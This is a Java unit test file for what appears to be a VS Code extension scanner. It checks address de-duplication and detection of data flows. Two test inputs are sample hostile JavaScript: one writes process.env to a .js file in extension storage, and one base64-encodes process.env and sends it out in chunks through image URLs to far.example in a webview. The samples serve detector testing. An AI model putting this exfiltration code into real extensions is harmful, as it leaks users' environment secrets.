package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DestinationsTest {

    @Test
    void anAddressWithoutItsSlashIsNone() {
        assertThat(Destinations.real(List.of("https://api.example/v1/ask", "https://api.examplev1/ask")))
                .containsExactly("https://api.example/v1/ask");
    }

    @Test
    void aHostThatOnlyBeginsLikeAnotherStays() {
        List<String> two = List.of(
                "https://api.example/v1", "https://api.example.far.invalid/v1", "https://api.examplefar.invalid/v1");

        assertThat(Destinations.real(two)).isEqualTo(two);
    }

    @Test
    void anAddressWithoutItsLastLetterIsNone() {
        assertThat(Destinations.real(List.of("collect.example", "https://collect.exampl/v2", "/v2")))
                .containsExactly("collect.example", "/v2");
    }

    @Test
    void anAddressWithoutTheBracketsThatItNeverHadIsNone() {
        assertThat(Destinations.real(List.of("https://198.51.100.254", "[2001:db8::7]", "98.51.100.25", "2001:db8::7")))
                .containsExactly("https://198.51.100.254", "[2001:db8::7]", "2001:db8::7");
    }

    @Test
    void aHostThatIsShorterByMoreThanALetterStays() {
        List<String> two = List.of("collect.example", "collect.examp");

        assertThat(Destinations.real(two)).isEqualTo(two);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "(context.globalStorageUri.fsPath + '/a.draft.json').replace('.draft.json', '.js')",
                "(context.globalStorageUri.fsPath + '/a.json').replace(/\\.json$/, '.js')",
            })
    void anEndingThatIsReplacedIsKnown(String path) {
        Analysis analysis = Analysis.ofActivate("fs.writeFileSync(" + path + ", JSON.stringify(process.env));");

        assertThat(analysis.destinations("environment", "executable-write")).containsExactly("…/a.js");
    }

    @Test
    void addressesInAListOfAnyLengthAreKnownByTheirForms() {
        Analysis analysis = Analysis.ofActivate("""
                const panel = vscode.window.createWebviewPanel('a', 'A', 1), parts = [];
                const text = Buffer.from(JSON.stringify(process.env)).toString('base64url');
                for (let from = 0; from < text.length; from += 1800) {
                  parts.push(`<img src="https://far.example/${parts.length}/${text.slice(from, from + 1800)}.svg">`);
                }
                panel.webview.html = `<p>${parts.join('')}</p>`;
                """);

        assertThat(analysis.destinations("environment", "image-url"))
                .contains("https://far.example/0/….svg", "https://far.example/…/….svg");
    }
}
